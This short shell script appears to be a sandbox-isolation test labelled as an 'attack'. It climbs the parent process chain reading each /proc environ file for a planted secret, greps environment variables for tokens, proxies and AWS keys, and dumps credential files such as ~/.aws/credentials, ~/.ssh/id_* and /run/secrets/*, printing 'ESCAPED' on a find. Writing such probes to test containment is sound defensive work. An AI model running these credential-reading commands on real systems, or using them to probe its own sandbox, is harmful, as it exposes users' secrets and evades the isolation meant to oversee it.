# attack: Looks for keys in its environment, in that of every process above it, and where tools keep them.
# needs: environment=clean; host_files=hidden|closed
pid=$$
for _ in 1 2 3 4 5 6; do
    tr '\0' '\n' <"/proc/$pid/environ" 2>/dev/null | grep -i "@SECRET@" && echo "ESCAPED environment of $pid"
    pid=$(awk '{print $4}' "/proc/$pid/stat" 2>/dev/null) || break
    [ -n "$pid" ] || break
done
env | grep -iE 'chutes|proxy=|aws_|janus_home|token=' && echo "ESCAPED has a variable"
cat ~/.netrc ~/.aws/credentials ~/.ssh/id_* /root/.netrc /run/secrets/* 2>/dev/null && echo "ESCAPED found a key"
echo tried
